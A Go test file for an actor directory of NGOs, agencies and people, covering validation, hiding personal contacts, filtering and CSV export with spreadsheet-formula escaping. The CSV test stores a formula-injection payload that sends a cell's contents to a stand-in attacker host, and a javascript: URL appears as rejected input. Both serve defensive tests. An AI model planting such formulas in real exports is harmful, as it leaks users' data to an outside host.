package observatory_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"

	"observatory"
)

func TestActorValidate(t *testing.T) {
	good := func() observatory.Actor {
		return observatory.Actor{Name: "  Red de Mujeres   Migrantes ", Kind: "NGO", Country: "cr",
			Areas: []string{"Migration", "migration", " trafficking "}, Website: "https://redmujeres.example.org/",
			Email: "info@redmujeres.example.org", Phone: "+506 2222-3333", Documents: []string{"doc-12", "https://example.org/estudio.pdf"}}
	}
	cases := []struct {
		name   string
		change func(*observatory.Actor)
		fields []string // invalid fields, none for a valid record
	}{
		{"valid", func(*observatory.Actor) {}, nil},
		{"no contacts", func(a *observatory.Actor) { a.Email, a.Phone, a.Website = "", "", "" }, nil},
		{"phone with extension", func(a *observatory.Actor) { a.Phone = "(502) 2411-1111 ext. 204" }, nil},
		{"empty", func(a *observatory.Actor) { *a = observatory.Actor{} }, []string{"name", "kind", "country"}},
		{"unknown kind and country", func(a *observatory.Actor) { a.Kind, a.Country = "club", "MX" }, []string{"kind", "country"}},
		{"email with a display name", func(a *observatory.Actor) { a.Email = "Ana <ana@example.org>" }, []string{"email"}},
		{"email without a domain", func(a *observatory.Actor) { a.Email = "ana@localhost" }, []string{"email"}},
		{"phone with letters", func(a *observatory.Actor) { a.Phone = "llamar al 2222" }, []string{"phone"}},
		{"phone too short", func(a *observatory.Actor) { a.Phone = "123" }, []string{"phone"}},
		{"website not http", func(a *observatory.Actor) { a.Website = "javascript:alert(1)" }, []string{"website"}},
		{"document neither ID nor URL", func(a *observatory.Actor) { a.Documents = []string{"un estudio"} }, []string{"documents"}},
		{"document URL with credentials", func(a *observatory.Actor) { a.Documents = []string{"https://u:p@example.org/x"} }, []string{"documents"}},
		{"name too long", func(a *observatory.Actor) { a.Name = strings.Repeat("a", 201) }, []string{"name"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			a := good()
			c.change(&a)
			a.Normalize()
			err := a.Validate()
			var v *observatory.ValidationError
			if len(c.fields) == 0 {
				if err != nil {
					t.Fatalf("got %v, want valid", err)
				}
				return
			}
			if !errors.As(err, &v) || !errors.Is(err, observatory.ErrInvalid) {
				t.Fatalf("got %v, want a *ValidationError", err)
			}
			var got []string
			for f := range v.Fields {
				got = append(got, f)
			}
			slices.Sort(got)
			want := slices.Sorted(slices.Values(c.fields))
			if !slices.Equal(got, want) {
				t.Errorf("invalid fields %v, want %v (%v)", got, want, err)
			}
		})
	}
	a := good()
	a.Normalize()
	if a.Name != "Red de Mujeres Migrantes" || a.Kind != "ngo" || a.Country != "CR" || !slices.Equal(a.Areas, []string{"migration", "trafficking"}) {
		t.Errorf("normalised: %+v", a)
	}
}

func TestActorPublicHidesContacts(t *testing.T) {
	a := observatory.Actor{Name: "Ana", Kind: "person", Country: "NI", Email: "ana@example.org", Phone: "+505 8888 8888",
		Notes: "prefiere WhatsApp", CouncilCandidate: true, CreatedBy: "coord", UpdatedBy: "coord"}
	p := a.Public()
	if p.Email != "" || p.Phone != "" || p.Notes != "" || p.CouncilCandidate || p.CreatedBy != "" {
		t.Errorf("public actor keeps personal fields: %+v", p)
	}
	if a.Email == "" {
		t.Error("Public changed the original")
	}
}

func TestActorFilter(t *testing.T) {
	a := observatory.Actor{Name: "Instituto Nacional de las Mujeres", Kind: "government", Country: "CR", Role: "rectoría", Areas: []string{"gender-violence"}, CouncilCandidate: true}
	cases := []struct {
		f    observatory.ActorFilter
		want bool
	}{
		{observatory.ActorFilter{}, true},
		{observatory.ActorFilter{Country: "cr", Kind: "GOVERNMENT"}, true},
		{observatory.ActorFilter{Country: "NI"}, false},
		{observatory.ActorFilter{Area: "gender-violence"}, true},
		{observatory.ActorFilter{Area: "health"}, false},
		{observatory.ActorFilter{Q: "mujeres"}, true},
		{observatory.ActorFilter{Q: "rectoría"}, true},
		{observatory.ActorFilter{Q: "xyz"}, false},
		{observatory.ActorFilter{CouncilOnly: true}, true},
	}
	for _, c := range cases {
		if got := c.f.Match(&a); got != c.want {
			t.Errorf("%+v: got %v, want %v", c.f, got, c.want)
		}
	}
}

func TestWriteActorsCSV(t *testing.T) {
	var buf bytes.Buffer
	actors := []observatory.Actor{{ID: "cr-ana", Name: "Ana, \"la\" coordinadora", Kind: "person", Country: "CR",
		Areas: []string{"migration", "health"}, Email: "ana@example.org", Phone: "+506 2222-3333",
		Notes: "línea 1\nlínea 2", Role: `=HYPERLINK("https://evil.example/?"&A1,"ver")`}}
	if err := observatory.WriteActorsCSV(&buf, actors); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 2 || !slices.Equal(recs[0], observatory.ActorColumns) {
		t.Fatalf("got %d records, header %v", len(recs), recs[0])
	}
	row := map[string]string{}
	for i, c := range recs[0] {
		row[c] = recs[1][i]
	}
	for k, want := range map[string]string{"name": actors[0].Name, "areas": "migration; health", "email": "ana@example.org",
		"notes": "línea 1\nlínea 2", "council_candidate": "false",
		// what a spreadsheet would run as a formula is defused
		"phone": "'+506 2222-3333", "role": `'=HYPERLINK("https://evil.example/?"&A1,"ver")`} {
		if row[k] != want {
			t.Errorf("%s: got %q, want %q", k, row[k], want)
		}
	}
}

func TestSpreadsheetCell(t *testing.T) {
	for in, want := range map[string]string{
		"":                 "",
		"La Nación":        "La Nación",
		"=1+1":             "'=1+1",
		"+506 2222-3333":   "'+506 2222-3333",
		"-2":               "'-2",
		"@SUM(A1)":         "'@SUM(A1)",
		"\tx":              "'\tx",
		"\rx":              "'\rx",
		"'ya citado":       "'ya citado",
		"'=ya defendido":   "''=ya defendido",
		"a=b":              "a=b",
		"https://x.org/=a": "https://x.org/=a",
	} {
		got := observatory.SpreadsheetCell(in)
		if got != want {
			t.Errorf("SpreadsheetCell(%q) = %q, want %q", in, got, want)
		}
		if back := observatory.PlainCell(got); back != in {
			t.Errorf("PlainCell(%q) = %q, want %q", got, back, in)
		}
	}
}
